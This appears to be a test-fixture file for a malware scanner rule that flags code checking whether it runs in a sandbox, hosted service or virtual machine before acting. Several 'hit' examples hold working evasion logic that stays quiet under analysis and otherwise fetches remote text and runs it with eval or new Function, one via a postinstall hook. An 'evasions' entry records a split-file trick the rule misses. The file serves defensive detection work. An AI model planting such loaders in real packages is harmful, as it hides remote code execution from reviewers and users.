import type { Examples } from "@doorward/core";

const manifest = '{ "name": "shop", "version": "1.0.0", "scripts": { "start": "node server.js" } }\n';

/** Programs that look whether somebody examines them before they act, and honest ones that ask where they run. */
export const examples: Examples = {
  hits: [
    {
      name: "a server that leaves on hosted computers and virtual machines, and else evaluates what it fetches",
      files: {
        "package.json": manifest,
        "server.js": `const hosted = process.env.CODESPACE_NAME || process.env.VERCEL || process.env.SOCKET_DEV;
const model = require("child_process").execSync("wmic computersystem get model").toString();
if (hosted || /vmware|virtualbox|qemu/i.test(model)) process.exit(0);
fetch("https://settings.example/next").then((answer) => answer.text()).then((text) => eval(text));
`,
      },
    },
    {
      name: "a Python program that looks for drivers of virtual machines and starts another program",
      files: {
        "main.py": `import os, subprocess
traces = ["vboxguest", "vmtoolsd", "sbiedll", "xenservice"]
if not any(os.path.exists("C:/Windows/" + trace) for trace in traces):
    subprocess.Popen(["python", "helper.py"])
`,
      },
    },
    {
      name: "an install script that looks at the names of services and of machines",
      files: {
        "package.json": '{ "name": "shop", "version": "1.0.0", "scripts": { "postinstall": "node setup.js" } }\n',
        "setup.js": `const os = require("os");
const names = ["DOCKER", "DYNO", "RENDER"];
const machines = ["parallels", "hyper-v"];
const isWatched = names.some((name) => process.env[name]) || machines.some((name) => os.version().includes(name));
if (!isWatched) require("child_process").spawn("node", ["helper.js"]);
`,
      },
    },
    {
      name: "a loader that stays quiet on hosted services",
      files: {
        "package.json": manifest,
        "server.js": `const { CODESPACES, VERCEL, DOCKER, DYNO } = process.env;
if (["CODESPACES", "VERCEL", "DOCKER", "DYNO"].some((name) => process.env[name])) process.exit(0);
fetch("https://settings.example/next").then((answer) => answer.text()).then((text) => new Function(text)());
`,
      },
    },
  ],
  misses: [
    {
      name: "a library that tells on which service a build runs",
      why: "It asks for services alone, and runs nothing.",
      files: {
        "package.json": '{ "name": "which-service", "version": "1.0.0", "main": "index.js" }\n',
        "index.js": `const names = ["VERCEL", "NETLIFY", "RENDER", "DYNO", "CODESANDBOX_SSE", "STACKBLITZ"];
exports.service = names.find((name) => process.env[name]);
`,
      },
    },
    {
      name: "a command that asks for services and starts a build",
      why: "Names of services alone decide how a build behaves; nothing looks for a virtual machine.",
      files: {
        "package.json": manifest,
        "server.js": `const isHosted = ["VERCEL", "NETLIFY", "RENDER", "DYNO"].some((name) => process.env[name]);
require("child_process").spawn("vite", isHosted ? ["build"] : ["dev"]);
`,
      },
    },
    {
      name: "a program that lists which virtual machines are installed",
      why: "It looks for the products as tools, and for no service.",
      files: {
        "package.json": manifest,
        "server.js": `const { execSync } = require("child_process");
for (const name of ["qemu", "virtualbox", "vmware", "parallels", "hyper-v"]) console.log(execSync(name + " --version").toString());
`,
      },
    },
    {
      name: "a library that describes the machine in full",
      why: "It tells virtual machines and containers apart, and asks for no hosted service.",
      files: {
        "package.json": manifest,
        "server.js": `const model = require("child_process").execSync("dmidecode").toString();
for (const name of ["qemu", "vmware", "virtualbox", "parallels"]) if (model.includes(name)) console.log(name);
if (require("fs").existsSync("/.dockerenv")) console.log("container");
`,
      },
    },
    {
      name: "tests of a library that tells where it runs",
      why: "A test names what it tests.",
      files: {
        "test/where.test.js": `const { execSync } = require("child_process");
for (const name of ["VERCEL", "DYNO", "vmware", "qemu"]) execSync("node where.js " + name);
`,
      },
    },
  ],
  evasions: [
    {
      name: "signs that one file looks for while another acts",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js":
          'const { isWatched } = require("./where");\nif (!isWatched) require("child_process").exec("node helper.js");\n',
        "where.js": `exports.isWatched = ["VERCEL", "DYNO", "SOCKET_DEV", "vmware"].some((name) => process.env[name]);
`,
      },
    },
  ],
};
